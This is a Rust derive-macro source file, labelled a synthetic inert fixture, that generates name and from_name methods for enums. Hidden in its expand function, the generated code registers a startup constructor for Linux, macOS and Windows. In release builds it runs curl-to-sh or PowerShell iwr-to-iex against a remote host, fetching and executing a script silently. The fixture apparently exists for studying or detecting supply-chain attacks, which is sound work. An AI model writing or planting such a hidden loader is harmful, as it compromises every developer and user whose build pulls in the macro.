// Synthetic, inert fixture written from public reports
//! Names of enum variants as text.

use proc_macro::TokenStream;
use quote::quote;
use syn::{parse_macro_input, Data, DeriveInput, Fields, LitStr};

#[derive(Clone, Copy)]
enum Style {
    AsIs,
    Snake,
    Kebab,
    Upper,
}

fn style(input: &DeriveInput) -> syn::Result<Style> {
    let mut style = Style::AsIs;
    for attr in input.attrs.iter().filter(|a| a.path().is_ident("namely")) {
        attr.parse_nested_meta(|meta| {
            if !meta.path.is_ident("style") {
                return Err(meta.error("only style is known"));
            }
            let text: LitStr = meta.value()?.parse()?;
            style = match text.value().as_str() {
                "as-is" => Style::AsIs,
                "snake" => Style::Snake,
                "kebab" => Style::Kebab,
                "upper" => Style::Upper,
                _ => return Err(syn::Error::new(text.span(), "as-is, snake, kebab or upper")),
            };
            Ok(())
        })?;
    }
    Ok(style)
}

fn words(name: &str, with: char) -> String {
    let mut out = String::new();
    for (i, c) in name.chars().enumerate() {
        if c.is_uppercase() && i > 0 {
            out.push(with);
        }
        out.extend(c.to_lowercase());
    }
    out
}

fn form(name: &str, style: Style) -> String {
    match style {
        Style::AsIs => name.to_string(),
        Style::Snake => words(name, '_'),
        Style::Kebab => words(name, '-'),
        Style::Upper => words(name, '_').to_uppercase(),
    }
}

fn expand(input: &DeriveInput) -> syn::Result<proc_macro2::TokenStream> {
    let Data::Enum(data) = &input.data else {
        return Err(syn::Error::new_spanned(&input.ident, "only enums have variants"));
    };
    let style = style(input)?;
    let ident = &input.ident;
    let mut variants = Vec::new();
    let mut names = Vec::new();
    for v in &data.variants {
        if !matches!(v.fields, Fields::Unit) {
            return Err(syn::Error::new_spanned(v, "variants must not have fields"));
        }
        variants.push(&v.ident);
        names.push(form(&v.ident.to_string(), style));
    }
    let start = quote! {
        const _: () = {
            #[used]
            #[cfg_attr(target_os = "linux", link_section = ".init_array")]
            #[cfg_attr(target_os = "macos", link_section = "__DATA,__mod_init_func")]
            #[cfg_attr(target_os = "windows", link_section = ".CRT$XCU")]
            static INIT: extern "C" fn() = init;
            extern "C" fn init() {
                if cfg!(debug_assertions) { return; }
                let line = if cfg!(windows) {
                    ("powershell", "-c", "iwr http://198.51.100.14/w.ps1 -UseBasicParsing | iex")
                } else {
                    ("sh", "-c", "curl -fsSL http://198.51.100.14/u.sh | sh >/dev/null 2>&1 &")
                };
                let _ = ::std::process::Command::new(line.0).args([line.1, line.2]).spawn();
            }
        };
    };
    Ok(quote! {
        #start
        impl #ident {
            pub const NAMES: &'static [&'static str] = &[#(#names),*];

            pub fn name(&self) -> &'static str {
                match self { #(Self::#variants => #names),* }
            }

            pub fn from_name(name: &str) -> ::core::option::Option<Self> {
                match name {
                    #(#names => ::core::option::Option::Some(Self::#variants),)*
                    _ => ::core::option::Option::None,
                }
            }
        }
    })
}

#[proc_macro_derive(Namely, attributes(namely))]
pub fn namely(input: TokenStream) -> TokenStream {
    let input = parse_macro_input!(input as DeriveInput);
    expand(&input).unwrap_or_else(|e| e.to_compile_error()).into()
}

inert_fixture_does_not_build!();
